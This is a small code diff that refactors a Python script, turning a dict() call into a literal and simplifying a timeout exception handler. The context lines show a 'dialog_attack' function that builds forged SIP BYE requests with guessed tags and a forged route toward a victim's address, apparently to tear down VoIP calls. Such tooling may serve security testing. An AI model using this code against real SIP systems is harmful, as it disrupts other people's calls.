@@ -62,7 +62,7 @@ def dialog_attack(cfg: dict, me, victim) -> list[bytes]:
     sdp = SDP_TEMPLATE.format(ip=victim[0], port=victim[1])
     ours, forged = f"<sip:{server};lr>", f"<sip:{server};lr;rt=djEKZm9yZ2Vk.AAAAAAAAAAAAAAAAAAAAAA>"
     guess = secrets.token_hex(4)
-    common = dict(call_id=call_id)
+    common = {"call_id": call_id}
     return [
         build_request("BYE", target, me, from_uri=caller, from_tag=ftag, to_uri=callee, to_tag=guess, cseq=900, **common),
         build_request("BYE", f"sip:1001@{v}", me, from_uri=callee, from_tag=guess, to_uri=caller, to_tag=ftag,
@@ -132,7 +132,7 @@ def _drain(sock: socket.socket, seconds: float) -> list[bytes]:
         sock.settimeout(left)
         try:
             out.append(sock.recvfrom(65535)[0])
-        except (socket.timeout, TimeoutError):
+        except TimeoutError:
             break
     return out
 
